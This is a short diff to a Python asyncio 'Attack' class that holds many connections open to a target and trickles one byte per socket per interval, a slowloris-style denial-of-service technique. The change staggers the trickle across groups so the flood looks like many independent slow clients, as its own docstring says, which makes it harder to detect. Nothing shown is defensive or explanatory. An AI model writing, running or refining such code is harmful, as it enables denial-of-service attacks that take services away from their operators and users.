@@ -156,13 +156,20 @@ class Attack:
         if not self.stopping and loop.time() + self.reopen < self.stop_at:
             loop.call_later(self.reopen, self.spawn, slot)
 
-    async def drip(self, interval: float) -> None:
+    async def drip(self, interval: float, slices: int = 20) -> None:
+        """One byte per socket per `interval`, the sockets taken in `slices` groups spread over
+        the interval (a thousand independent slow clients, not one synchronised burst)."""
         loop = asyncio.get_running_loop()
+        step = interval / slices
+        turn = 0
         while loop.time() < self.stop_at:
-            await asyncio.sleep(interval)
+            await asyncio.sleep(step)
             for protocol in list(self.open):
+                if protocol.slot % slices != turn:
+                    continue
                 if protocol.transport is not None and not protocol.transport.is_closing():
                     protocol.transport.write(self.drips[protocol.slot % 2])
+            turn = (turn + 1) % slices
 
     def close(self) -> None:
         self.stopping = True
